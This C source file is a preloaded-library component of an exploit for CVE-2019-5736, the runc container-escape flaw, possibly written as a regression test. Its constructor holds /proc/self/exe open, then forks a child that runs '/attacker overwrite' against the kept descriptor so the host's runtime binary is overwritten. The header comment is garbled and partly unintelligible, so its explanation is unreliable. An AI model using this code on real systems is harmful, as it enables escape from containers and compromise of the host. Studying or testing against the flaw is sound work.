/* SPDX-License-Identifier: Apache-2.0 */

/*
 * CVE-2019-5736: code of the container's in a process whose program is masu ("#!/proc/self/exe", and
 * this library preloaded). It keeps the program open, and then turns into others, so that the file
 * is no longer busy: process 1, and a child that writes over it.
 */

#include <fcntl.h>
#include <stdlib.h>
#include <unistd.h>

#define KEPT "9"

__attribute__((constructor)) static void attack(void)
{
	char *const sleeper[] = {(char *)"sleep", (char *)"5", NULL};
	char *const writer[] = {(char *)"attacker", (char *)"overwrite",
				(char *)"/proc/self/fd/" KEPT, NULL};
	int fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);

	(void)unsetenv("LD_PRELOAD");
	if (fork() == 0) {
		(void)dup2(fd, (int)strtol(KEPT, NULL, 10));
		(void)execv("/attacker", writer);
		_exit(1);
	}
	(void)execv("/bin/sleep", sleeper);
	_exit(1);
}
